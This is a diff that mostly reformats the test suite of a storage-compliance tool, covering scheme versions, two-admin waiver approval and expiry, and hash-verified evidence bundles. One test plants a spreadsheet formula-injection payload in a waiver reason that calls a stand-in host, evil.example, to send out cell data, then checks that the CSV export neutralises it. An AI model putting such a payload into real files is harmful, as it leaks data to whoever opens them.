@@ -46,7 +46,10 @@ describe("governance: scheme versions, waivers, evidence", () => {
     actors.admin = as("admin@demo.custody.local", "admin");
     actors.lead = as("lead@demo.custody.local", "security-lead");
     actors.auditor = as("auditor@demo.custody.local", "auditor");
-    const second = await db.prisma.user.create({ data: { email: "admin2@example.com", name: "Second Admin", role: "admin", passwordHash: "x" }, select: { id: true, email: true, name: true } });
+    const second = await db.prisma.user.create({
+      data: { email: "admin2@example.com", name: "Second Admin", role: "admin", passwordHash: "x" },
+      select: { id: true, email: true, name: true },
+    });
     actors.admin2 = { ...second, role: "admin" };
   });
   afterAll(async () => db.drop());
@@ -54,11 +57,21 @@ describe("governance: scheme versions, waivers, evidence", () => {
   it("changing Medium's required controls re-evaluates the Medium buckets, records the new version, and audits the diff", async () => {
     const scheme = structuredClone(DEFAULT_SCHEME);
     scheme.levels[1]!.requiredControlIds = [...scheme.levels[1]!.requiredControlIds, "versioning"];
-    const partnerBefore = await db.prisma.bucket.findFirstOrThrow({ where: { name: S.crossAccountRead }, select: { id: true, failingRequired: true, schemeVersion: true } });
-    const highBefore = await db.prisma.bucket.findFirstOrThrow({ where: { name: S.compliantHigh }, select: { schemeVersion: true, evaluatedAt: true } });
+    const partnerBefore = await db.prisma.bucket.findFirstOrThrow({
+      where: { name: S.crossAccountRead },
+      select: { id: true, failingRequired: true, schemeVersion: true },
+    });
+    const highBefore = await db.prisma.bucket.findFirstOrThrow({
+      where: { name: S.compliantHigh },
+      select: { schemeVersion: true, evaluatedAt: true },
+    });
     expect(partnerBefore.schemeVersion).toBe(1);
 
-    const result = await changeSchemeWith(db.prisma, actors.admin, { schemeJson: exportClassificationScheme(scheme), note: "versioning for Medium", source: "editor" });
+    const result = await changeSchemeWith(db.prisma, actors.admin, {
+      schemeJson: exportClassificationScheme(scheme),
+      note: "versioning for Medium",
+      source: "editor",
+    });
     if (!result.ok) throw new Error(result.errors.join("; "));
     expect(result.version).toBe(2);
     expect(result.changes).toEqual(["level medium now requires versioning"]);
@@ -69,71 +82,172 @@ describe("governance: scheme versions, waivers, evidence", () => {
 
     const partner = await db.prisma.bucket.findUniqueOrThrow({
       where: { id: partnerBefore.id },
-      select: { schemeVersion: true, failingRequired: true, controlResults: { where: { controlId: "versioning" }, select: { status: true, required: true, schemeVersion: true } } },
+      select: {
+        schemeVersion: true,
+        failingRequired: true,
+        controlResults: {
+          where: { controlId: "versioning" },
+          select: { status: true, required: true, schemeVersion: true },
+        },
+      },
     });
     // The partner exchange has versioning off: once Medium requires it, it fails, under version 2.
     expect(partner.controlResults[0]).toEqual({ status: "fail", required: true, schemeVersion: 2 });
     expect(partner.schemeVersion).toBe(2);
     expect(partner.failingRequired).toBe(partnerBefore.failingRequired + 1);
     // A High bucket was not affected and was not touched.
-    const high = await db.prisma.bucket.findFirstOrThrow({ where: { name: S.compliantHigh }, select: { schemeVersion: true, evaluatedAt: true } });
+    const high = await db.prisma.bucket.findFirstOrThrow({
+      where: { name: S.compliantHigh },
+      select: { schemeVersion: true, evaluatedAt: true },
+    });
     expect(high).toEqual(highBefore);
 
-    const audit = await db.prisma.auditEvent.findFirstOrThrow({ where: { action: "scheme.update", outcome: "success" }, orderBy: { id: "desc" } });
+    const audit = await db.prisma.auditEvent.findFirstOrThrow({
+      where: { action: "scheme.update", outcome: "success" },
+      orderBy: { id: "desc" },
+    });
     expect(audit.actorEmail).toBe("admin@demo.custody.local");
-    expect(audit.detail).toMatchObject({ fromVersion: 1, toVersion: 2, changes: ["level medium now requires versioning"] });
+    expect(audit.detail).toMatchObject({
+      fromVersion: 1,
+      toVersion: 2,
+      changes: ["level medium now requires versioning"],
+    });
   });
 
   it("a bad scheme names the field and changes nothing; only admins may edit", async () => {
     const bad = JSON.parse(exportClassificationScheme(DEFAULT_SCHEME));
     bad.levels[1].rank = "two";
-    const result = await changeSchemeWith(db.prisma, actors.admin, { schemeJson: JSON.stringify(bad), note: "", source: "import" });
+    const result = await changeSchemeWith(db.prisma, actors.admin, {
+      schemeJson: JSON.stringify(bad),
+      note: "",
+      source: "import",
+    });
     expect(result).toEqual({ ok: false, errors: ["levels[1].rank: rank must be a number"] });
     expect(await db.prisma.schemeVersion.count()).toBe(2);
-    await expect(changeSchemeWith(db.prisma, actors.lead, { schemeJson: exportClassificationScheme(DEFAULT_SCHEME), note: "", source: "editor" })).rejects.toMatchObject({ code: "forbidden" });
+    await expect(
+      changeSchemeWith(db.prisma, actors.lead, {
+        schemeJson: exportClassificationScheme(DEFAULT_SCHEME),
+        note: "",
+        source: "editor",
+      }),
+    ).rejects.toMatchObject({ code: "forbidden" });
   });
 
   it("a waiver: the proposer cannot approve it, another admin can; the control is waived; on expiry it stops counting", async () => {
-    const logs = await db.prisma.bucket.findFirstOrThrow({ where: { name: S.accessLogs }, select: { id: true, failingRequired: true, waivedRequired: true } });
+    const logs = await db.prisma.bucket.findFirstOrThrow({
+      where: { name: S.accessLogs },
+      select: { id: true, failingRequired: true, waivedRequired: true },
+    });
     const now = new Date();
     const expiresOn = new Date(now.getTime() + 30 * 86_400_000).toISOString().slice(0, 10);
-    await expect(proposeWaiverWith(db.prisma, actors.auditor, { bucket: S.accessLogs, controlId: "access-logging", reason: "log target cannot log to itself", owner: "security-team", expiresOn })).rejects.toMatchObject({ code: "forbidden" });
-    await expect(proposeWaiverWith(db.prisma, actors.lead, { bucket: S.accessLogs, controlId: "versioning", reason: "versioning is fine here", owner: "security-team", expiresOn })).rejects.toMatchObject({ code: "conflict" });
-    await expect(proposeWaiverWith(db.prisma, actors.lead, { bucket: S.accessLogs, controlId: "access-logging", reason: "log target cannot log to itself", owner: "security-team", expiresOn: "2020-01-01" })).rejects.toThrow("expiry date must be in the future");
+    await expect(
+      proposeWaiverWith(db.prisma, actors.auditor, {
+        bucket: S.accessLogs,
+        controlId: "access-logging",
+        reason: "log target cannot log to itself",
+        owner: "security-team",
+        expiresOn,
+      }),
+    ).rejects.toMatchObject({ code: "forbidden" });
+    await expect(
+      proposeWaiverWith(db.prisma, actors.lead, {
+        bucket: S.accessLogs,
+        controlId: "versioning",
+        reason: "versioning is fine here",
+        owner: "security-team",
+        expiresOn,
+      }),
+    ).rejects.toMatchObject({ code: "conflict" });
+    await expect(
+      proposeWaiverWith(db.prisma, actors.lead, {
+        bucket: S.accessLogs,
+        controlId: "access-logging",
+        reason: "log target cannot log to itself",
+        owner: "security-team",
+        expiresOn: "2020-01-01",
+      }),
+    ).rejects.toThrow("expiry date must be in the future");
 
-    const proposedByAdmin = await proposeWaiverWith(db.prisma, actors.admin, { bucket: S.accessLogs, controlId: "access-logging", reason: "the log target cannot log to itself", owner: "security-team", expiresOn });
-    await expect(decideWaiverWith(db.prisma, actors.admin, { waiverId: proposedByAdmin.id, decision: "approve" })).rejects.toMatchObject({ code: "forbidden" });
+    const proposedByAdmin = await proposeWaiverWith(db.prisma, actors.admin, {
+      bucket: S.accessLogs,
+      controlId: "access-logging",
+      reason: "the log target cannot log to itself",
+      owner: "security-team",
+      expiresOn,
+    });
+    await expect(
+      decideWaiverWith(db.prisma, actors.admin, { waiverId: proposedByAdmin.id, decision: "approve" }),
+    ).rejects.toMatchObject({ code: "forbidden" });
     expect(await db.prisma.auditEvent.count({ where: { action: "waiver.approve", outcome: "denied" } })).toBe(1);
 
     await decideWaiverWith(db.prisma, actors.admin2, { waiverId: proposedByAdmin.id, decision: "approve", note: "ok" });
-    let after = await db.prisma.bucket.findUniqueOrThrow({ where: { id: logs.id }, select: { failingRequired: true, waivedRequired: true, controlResults: { where: { controlId: "access-logging" }, select: { status: true, waiverId: true } } } });
+    let after = await db.prisma.bucket.findUniqueOrThrow({
+      where: { id: logs.id },
+      select: {
+        failingRequired: true,
+        waivedRequired: true,
+        controlResults: { where: { controlId: "access-logging" }, select: { status: true, waiverId: true } },
+      },
+    });
     expect(after.controlResults[0]).toEqual({ status: "waived", waiverId: proposedByAdmin.id });
     expect(after).toMatchObject({ failingRequired: logs.failingRequired - 1, waivedRequired: logs.waivedRequired + 1 });
 
     // Expiry: nothing to do before; the day after, the sweep marks it expired and the control fails again.
     expect(await expireDueWaiversWith(db.prisma, now)).toBe(0);
     const later = new Date(now.getTime() + 31 * 86_400_000);
-    await db.prisma.waiver.update({ where: { id: proposedByAdmin.id }, data: { expiresAt: new Date(Date.now() - 1000) } }); // evaluation uses the clock
+    await db.prisma.waiver.update({
+      where: { id: proposedByAdmin.id },
+      data: { expiresAt: new Date(Date.now() - 1000) },
+    }); // evaluation uses the clock
     expect(await expireDueWaiversWith(db.prisma, later)).toBe(1);
-    const w = await db.prisma.waiver.findUniqueOrThrow({ where: { id: proposedByAdmin.id }, select: { status: true, endedAt: true } });
+    const w = await db.prisma.waiver.findUniqueOrThrow({
+      where: { id: proposedByAdmin.id },
+      select: { status: true, endedAt: true },
+    });
     expect(w.status).toBe("expired");
-    after = await db.prisma.bucket.findUniqueOrThrow({ where: { id: logs.id }, select: { failingRequired: true, waivedRequired: true, controlResults: { where: { controlId: "access-logging" }, select: { status: true, waiverId: true } } } });
+    after = await db.prisma.bucket.findUniqueOrThrow({
+      where: { id: logs.id },
+      select: {
+        failingRequired: true,
+        waivedRequired: true,
+        controlResults: { where: { controlId: "access-logging" }, select: { status: true, waiverId: true } },
+      },
+    });
     expect(after.controlResults[0]).toEqual({ status: "fail", waiverId: null });
     expect(after).toMatchObject({ failingRequired: logs.failingRequired, waivedRequired: logs.waivedRequired });
     expect(await db.prisma.auditEvent.count({ where: { action: "waiver.expire" } })).toBe(1);
   });
 
   it("evidence: the same scope and snapshot give byte-identical data files; the manifest hashes them; the record verifies", async () => {
-    const run = await db.prisma.syncRun.findFirstOrThrow({ where: { status: { in: ["succeeded", "partial"] } }, orderBy: { finishedAt: "desc" }, select: { id: true } });
-    const payments = await db.prisma.account.findFirstOrThrow({ where: { name: "acme-prod-payments" }, select: { id: true } });
+    const run = await db.prisma.syncRun.findFirstOrThrow({
+      where: { status: { in: ["succeeded", "partial"] } },
+      orderBy: { finishedAt: "desc" },
+      select: { id: true },
+    });
+    const payments = await db.prisma.account.findFirstOrThrow({
+      where: { name: "acme-prod-payments" },
+      select: { id: true },
+    });
     const request = { syncRunId: run.id, accounts: [payments.id], ous: [], levels: [], controls: [] };
     const first = await bundleBytes(actors.auditor, request);
     const second = await bundleBytes(actors.auditor, { ...request, accounts: [payments.id, payments.id] });
     const [a, b] = await Promise.all([JSZip.loadAsync(first), JSZip.loadAsync(second)]);
     const names = Object.keys(a.files).sort();
-    expect(names).toEqual(["bucket-settings.json", "config-evaluations.json", "control-matrix.csv", "macie-findings.json", "manifest.json", "scheme.json", "waivers.csv"]);
+    expect(names).toEqual([
+      "bucket-settings.json",
+      "config-evaluations.json",
+      "control-matrix.csv",
+      "macie-findings.json",
+      "manifest.json",
+      "scheme.json",
+      "waivers.csv",
+    ]);
     const manifest = JSON.parse(await a.file("manifest.json")!.async("string"));
-    expect(manifest).toMatchObject({ createdBy: "auditor@demo.custody.local", snapshot: { syncRunId: run.id }, filters: { accounts: [payments.id] } });
+    expect(manifest).toMatchObject({
+      createdBy: "auditor@demo.custody.local",
+      snapshot: { syncRunId: run.id },
+      filters: { accounts: [payments.id] },
+    });
     for (const f of manifest.files as { name: string; sha256: string }[]) {
       const bytesA = await a.file(f.name)!.async("nodebuffer");
       const bytesB = await b.file(f.name)!.async("nodebuffer");
@@ -145,25 +259,44 @@ describe("governance: scheme versions, waivers, evidence", () => {
     expect(manifest.buckets).toBe(bucketsInAccount);
     expect(matrix.trim().split("\n")).toHaveLength(1 + bucketsInAccount * 17);
     // The unencrypted High bucket fails encryption in the bundle exactly as it does in the app.
-    expect(matrix).toMatch(new RegExp(`${S.unencryptedHigh},eu-west-1,high,tag,encryption-at-rest,true,fail,fail,disagree,COMPLIANT`));
+    expect(matrix).toMatch(
+      new RegExp(`${S.unencryptedHigh},eu-west-1,high,tag,encryption-at-rest,true,fail,fail,disagree,COMPLIANT`),
+    );
 
     const recorded = await db.prisma.evidenceBundle.findMany({ select: { sha256: true } });
     expect(recorded).toHaveLength(2);
     const verified = await verifyEvidenceWith(db.prisma, actors.auditor, { zip: first });
-    expect(verified).toMatchObject({ match: true, files: manifest.files.map((f: { name: string }) => ({ name: f.name, ok: true })) });
+    expect(verified).toMatchObject({
+      match: true,
+      files: manifest.files.map((f: { name: string }) => ({ name: f.name, ok: true })),
+    });
     // A changed data file is caught, and a manifest Custody never issued is not matched.
     a.file("control-matrix.csv", matrix.replace(",fail,fail,", ",pass,pass,"));
-    const tampered = await verifyEvidenceWith(db.prisma, actors.auditor, { zip: await a.generateAsync({ type: "nodebuffer" }) });
+    const tampered = await verifyEvidenceWith(db.prisma, actors.auditor, {
+      zip: await a.generateAsync({ type: "nodebuffer" }),
+    });
     expect(tampered).toMatchObject({ match: false, message: expect.stringContaining("control-matrix.csv") });
-    expect(await verifyEvidenceWith(db.prisma, actors.auditor, { hash: "0".repeat(64) })).toMatchObject({ match: false });
+    expect(await verifyEvidenceWith(db.prisma, actors.auditor, { hash: "0".repeat(64) })).toMatchObject({
+      match: false,
+    });
     await expect(startEvidenceBundleWith(db.prisma, actors.lead, request)).rejects.toMatchObject({ code: "forbidden" });
-    await expect(startEvidenceBundleWith(db.prisma, actors.auditor, { ...request, syncRunId: "nope" })).rejects.toMatchObject({ code: "invalid_input" });
+    await expect(
+      startEvidenceBundleWith(db.prisma, actors.auditor, { ...request, syncRunId: "nope" }),
+    ).rejects.toMatchObject({ code: "invalid_input" });
   });
 
   it("evidence: a bundle built in the worker thread is byte-identical to one built in-process, and the worker waits for a slow consumer", async () => {
-    const run = await db.prisma.syncRun.findFirstOrThrow({ where: { status: { in: ["succeeded", "partial"] } }, orderBy: { finishedAt: "desc" }, select: { id: true } });
+    const run = await db.prisma.syncRun.findFirstOrThrow({
+      where: { status: { in: ["succeeded", "partial"] } },
+      orderBy: { finishedAt: "desc" },
+      select: { id: true },
+    });
     const request = { syncRunId: run.id, accounts: [], ous: [], levels: [], controls: [] };
-    const common = { request, createdBy: { id: actors.auditor.id, email: actors.auditor.email }, createdAt: new Date("2026-01-02T03:04:05.678Z") };
+    const common = {
+      request,
+      createdBy: { id: actors.auditor.id, email: actors.auditor.email },
+      createdAt: new Date("2026-01-02T03:04:05.678Z"),
+    };
     const collect = (stream: PassThrough) => {
       const chunks: Buffer[] = [];
       stream.on("data", (c: Buffer) => chunks.push(c));
@@ -179,10 +312,23 @@ describe("governance: scheme versions, waivers, evidence", () => {
     const workerOut = new PassThrough();
     const workerBytes = collect(workerOut);
     const recorded: string[] = [];
-    const viaWorker = await writeEvidenceBundleInWorker(db.url, { ...common, out: workerOut, onManifest: async (r) => void recorded.push(r.manifestSha256) });
+    const viaWorker = await writeEvidenceBundleInWorker(db.url, {
+      ...common,
+      out: workerOut,
+      onManifest: async (r) => void recorded.push(r.manifestSha256),
+    });
     // Issue 14 §10: the demo's run is partial (one account cannot be assumed); the whole-estate manifest names it.
     expect((inProcess.manifest as { incompleteAccounts: unknown[] }).incompleteAccounts).toEqual([
-      expect.objectContaining({ name: DEMO_UNASSUMABLE_ACCOUNT_NAME, missing: [expect.objectContaining({ region: "global", collector: "sts", reason: expect.stringContaining("AccessDenied") })] }),
+      expect.objectContaining({
+        name: DEMO_UNASSUMABLE_ACCOUNT_NAME,
+        missing: [
+          expect.objectContaining({
+            region: "global",
+            collector: "sts",
+            reason: expect.stringContaining("AccessDenied"),
+          }),
+        ],
+      }),
     ]);
     expect((await workerBytes).equals(await inProcessBytes)).toBe(true);
     expect(viaWorker).toEqual(inProcess);
@@ -219,18 +365,40 @@ describe("governance: scheme versions, waivers, evidence", () => {
   });
 
   it("evidence: a waiver reason or owner that would run as a spreadsheet formula is neutralised in waivers.csv", async () => {
-    const run = await db.prisma.syncRun.findFirstOrThrow({ where: { status: { in: ["succeeded", "partial"] } }, orderBy: { finishedAt: "desc" }, select: { id: true, finishedAt: true } });
+    const run = await db.prisma.syncRun.findFirstOrThrow({
+      where: { status: { in: ["succeeded", "partial"] } },
+      orderBy: { finishedAt: "desc" },
+      select: { id: true, finishedAt: true },
+    });
     const T = run.finishedAt!;
-    const bucket = await db.prisma.bucket.findFirstOrThrow({ where: { name: S.unencryptedHigh }, select: { id: true, accountId: true } });
+    const bucket = await db.prisma.bucket.findFirstOrThrow({
+      where: { name: S.unencryptedHigh },
+      select: { id: true, accountId: true },
+    });
     // Active at the snapshot: decided before it, expiring after it (written directly: the DAL stamps "now").
     await db.prisma.waiver.create({
       data: {
-        bucketId: bucket.id, controlId: "encryption-at-rest", status: "approved", reason: '=HYPERLINK("http://evil.example/?x="&A1,"open")', owner: "@ops",
-        proposedById: actors.lead.id, proposedAt: new Date(T.getTime() - 2 * 86_400_000), decidedById: actors.admin2.id, decidedAt: new Date(T.getTime() - 86_400_000),
+        bucketId: bucket.id,
+        controlId: "encryption-at-rest",
+        status: "approved",
+        reason: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+        owner: "@ops",
+        proposedById: actors.lead.id,
+        proposedAt: new Date(T.getTime() - 2 * 86_400_000),
+        decidedById: actors.admin2.id,
+        decidedAt: new Date(T.getTime() - 86_400_000),
         expiresAt: new Date(T.getTime() + 30 * 86_400_000),
       },
     });
-    const zip = await JSZip.loadAsync(await bundleBytes(actors.auditor, { syncRunId: run.id, accounts: [bucket.accountId], ous: [], levels: [], controls: [] }));
+    const zip = await JSZip.loadAsync(
+      await bundleBytes(actors.auditor, {
+        syncRunId: run.id,
+        accounts: [bucket.accountId],
+        ous: [],
+        levels: [],
+        controls: [],
+      }),
+    );
     const waivers = await zip.file("waivers.csv")!.async("string");
     expect(waivers).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",'@ops,`);
     expect(waivers).not.toMatch(/(^|,)"?[=@]/m);
